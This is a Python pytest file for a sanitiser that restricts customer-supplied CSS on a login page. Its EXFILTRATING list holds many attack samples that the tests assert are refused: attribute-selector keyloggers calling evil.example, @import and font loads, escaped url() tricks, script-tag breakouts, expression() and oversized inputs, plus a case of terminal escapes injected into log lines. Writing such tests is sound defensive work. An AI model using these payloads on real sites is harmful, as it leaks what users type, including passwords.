"""What is shown of a customer's CSS? Attack row 88: rules that tell another server what somebody types, and all that is like it."""

import base64

import pytest

from pages.brand_sheet import TEMPLATE
from pages.pictures import png
from poolkeeper.branding.classic_css import CLASSES, BadCss, cleaned


class Shelf:
    """Keeps the pictures that stood in a sheet."""

    def __init__(self) -> None:
        self.kept: list[bytes] = []

    def __call__(self, content: bytes) -> str:
        self.kept.append(content)
        return f"/kept/{len(self.kept)}.png"


def test_the_template_of_the_console_is_shown_as_it_is() -> None:
    """Every declaration of it but `outline: 0`, which would hide where the focus is."""
    result = cleaned(TEMPLATE, Shelf())
    assert result.left_out == [".inputField-customizable outline"]
    wanted = TEMPLATE.replace(" outline: 0;", "").lower().count(": ")
    assert result.css.count(": ") == wanted
    for name in CLASSES:
        assert f".{name}-customizable.{name}-customizable" in result.css


def test_a_picture_in_a_sheet_becomes_one_of_our_own_origin() -> None:
    """The policy of pages lets no `data:` picture be shown, so that none can carry anything."""
    shelf = Shelf()
    data = base64.b64encode(png()).decode()
    css = cleaned(
        f'.banner-customizable {{ background: #fff url("data:image/png;base64,{data}") no-repeat }}', shelf
    ).css
    assert shelf.kept == [png()]
    assert 'url("/kept/1.png")' in css
    assert "data:" not in css


EXFILTRATING = [
    "@import url(https://evil.example/x.css);",
    "@import 'https://evil.example/x.css';",
    "@font-face { font-family: x; src: url(https://evil.example/x) }",
    "@media screen { .label-customizable { color: red } }",
    "@supports (color: red) { .label-customizable { color: red } }",
    "@page { margin: 0 }",
    "@charset 'utf-7';",
    "input[value^=a] { background: url(https://evil.example/a) }",
    ".inputField-customizable[value^='a'] { background: url(https://evil.example/a) }",
    ".inputField-customizable[name=password] { color: red }",
    ".inputField-customizable:not([value='']) { color: red }",
    ".inputField-customizable:valid { color: red }",
    ".label-customizable::before { content: 'x' }",
    ".label-customizable, input { color: red }",
    ".label-customizable input { color: red }",
    ".label-customizable > a { color: red }",
    ".label-customizable + input { color: red }",
    ".label-customizable.x { color: red }",
    "body { background: red }",
    "* { color: red }",
    ":root { --ml-primary: red }",
    "#f-password { color: red }",
    ".login { display: none }",
    ".label-customizable { background: url(https://evil.example/x) }",
    ".label-customizable { background: URL( 'https://evil.example/x' ) }",
    ".label-customizable { background: u\\72l(https://evil.example/x) }",
    ".label-customizable { background: \\75rl(//evil.example) }",
    ".label-customizable { background: url(//evil.example/x) }",
    ".label-customizable { background: url(/logout) }",
    ".label-customizable { background: url('data:text/html;base64,PHNjcmlwdD4=') }",
    ".label-customizable { background: url('data:image/svg+xml,<svg onload=alert(1)>') }",
    ".label-customizable { background: url('data:image/png;base64,####') }",
    ".label-customizable { background: image-set('https://evil.example/x' 1x) }",
    ".label-customizable { background: -webkit-image-set(url(https://evil.example/x) 1x) }",
    ".label-customizable { background: image('https://evil.example/x') }",
    ".label-customizable { background: cross-fade(url(https://evil.example/x), red) }",
    ".label-customizable { background: element(#f-password) }",
    ".label-customizable { cursor: url(https://evil.example/x), auto }",
    ".label-customizable { content: attr(value) }",
    ".label-customizable { width: expression(alert(1)) }",
    ".label-customizable { width: e\\xpression(alert(1)) }",
    ".label-customizable { behavior: url(x.htc) }",
    ".label-customizable { -moz-binding: url(x.xml#y) }",
    ".label-customizable { color: var(--ml-primary, url(https://evil.example)) }",
    ".label-customizable { font-family: 'a</style><script>alert(1)</script>' }",
    ".label-customizable { color: red; } </style><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    ".label-customizable { .nested { color: red } }",
    ".label-customizable { color: red; { } }",
    ".label-customizable { background: linear-gradient(red, url(https://evil.example/x)) }",
    ".background-customizable { background: url('data:image/png;base64,R0lGODlh') }",
    ".label-customizable { width: 99999999px }",
    ".label-customizable { " + "width: " + "calc(" * 60 + "1px" + ")" * 60 + " }",
    ".label-customizable { color: red } " * 300,
    ", ".join([".label-customizable"] * 200) + "{" + "color: red;" * 200 + "}",
    ", ".join([".label-customizable"] * 200) + "{" + "transition: none;" * 200 + "}",
    ", ".join([".label-customizable"] * 2_000) + "{ font-family: " + "serif, " * 30 + "serif }",
    "{" * 50_000,
    "(" * 50_000,
]


@pytest.mark.parametrize("css", EXFILTRATING)
def test_css_that_could_tell_or_run_is_refused(css: str) -> None:
    """Attack row 88: other selectors, at-rules, addresses, functions, escapes; refused as a whole, in AWS's words where known."""

    def keep(content: bytes) -> str:
        if not content.startswith(b"\x89PNG"):
            raise BadCss("no picture")
        return "/"

    with pytest.raises(BadCss):
        cleaned(css, keep)


def test_another_class_is_refused_in_the_words_of_aws() -> None:
    """measured.md 9."""
    with pytest.raises(BadCss, match=r"^The CSS class \.foo is not in the list of allowed classes\.$"):
        cleaned(".foo { color: red }", Shelf())


@pytest.mark.parametrize(
    "css", ["", "   ", "/* nothing */", ".label-customizable {}", ".label-customizable { color: red"]
)
def test_css_that_says_little_is_taken(css: str) -> None:
    """Nothing, a comment, an empty rule, and one that ends with the text, which CSS closes itself."""
    assert ("color: red" in cleaned(css, Shelf()).css) is ("red" in css)


def test_what_a_page_needs_cannot_be_hidden() -> None:
    """`display: none` goes for the logo, and is left out for errors, fields and buttons; so is what lies over other things."""
    css = "".join(
        f".{name}-customizable {{ display: none; position: fixed; z-index: 9; opacity: 0 }}" for name in CLASSES
    )
    result = cleaned(css, Shelf())
    hidden = {line.partition("-customizable")[0].removeprefix(".") for line in result.css.splitlines()}
    assert hidden == {"banner", "idpDescription", "legalText", "logo", "redirect", "textDescription"}
    assert "position" not in result.css
    assert "opacity" not in result.css


def test_a_value_is_written_once_for_all_selectors_of_its_rule() -> None:
    """Row 88: a rule of many selectors and a large picture would otherwise be taken from its base64 for each of them."""
    shelf = Shelf()
    data = base64.b64encode(png()).decode()
    names = ", ".join([".banner-customizable"] * 50)
    css = cleaned(f'{names} {{ background: url("data:image/png;base64,{data}") }}', shelf).css
    assert len(shelf.kept) == 1
    assert css.count("/kept/1.png") == 50


def test_no_name_of_a_property_makes_a_line_of_its_own_in_the_log() -> None:
    """Row 97: an escape of CSS puts a line break or an order to a terminal into a name, which is told as one that is left out."""
    names = r".label-customizable { a\a ERROR: red; b\1b\5b 31m: red; transition: none }"
    left_out = cleaned(names, Shelf()).left_out
    assert len(left_out) == 3
    assert left_out[-1] == ".label-customizable transition"
    assert all(one.isprintable() for one in left_out)
